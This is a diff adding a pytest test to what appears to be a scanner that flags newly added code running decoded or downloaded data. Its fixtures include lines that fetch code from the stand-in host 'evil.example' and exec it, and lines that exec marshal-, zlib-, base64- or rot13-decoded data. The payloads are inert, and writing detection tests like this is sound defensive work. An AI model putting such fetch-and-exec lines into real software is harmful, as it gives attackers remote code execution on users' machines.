@@ -319,3 +319,19 @@ def test_moving_to_a_src_layout_is_not_new_code(tmp_path: Path) -> None:
     moved["src/tinylib/net.py"] += "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
     new2 = write_tree(tmp_path / "new2", moved)
     assert [f.rule for f in review_delta(old, new2)] == ["exec-decoded"]
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "import requests\nexec(requests.get('https://evil.example/p').text)\n",
+        "from urllib.request import urlopen\nexec(urlopen('https://evil.example/p').read())\n",
+        "import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'x')))\n",
+        "import codecs\neval(codecs.decode('cevag(1)', 'rot13'))\n",
+    ],
+)
+def test_exec_of_downloaded_or_decoded_data(tmp_path: Path, code: str) -> None:
+    old = write_tree(tmp_path / "old", BENIGN)
+    new = write_tree(tmp_path / "new", {**BENIGN, "src/tinylib/util.py": code})
+    found = [f for f in review_delta(old, new) if f.rule == "exec-decoded"]
+    assert [f.line for f in found] == [2]
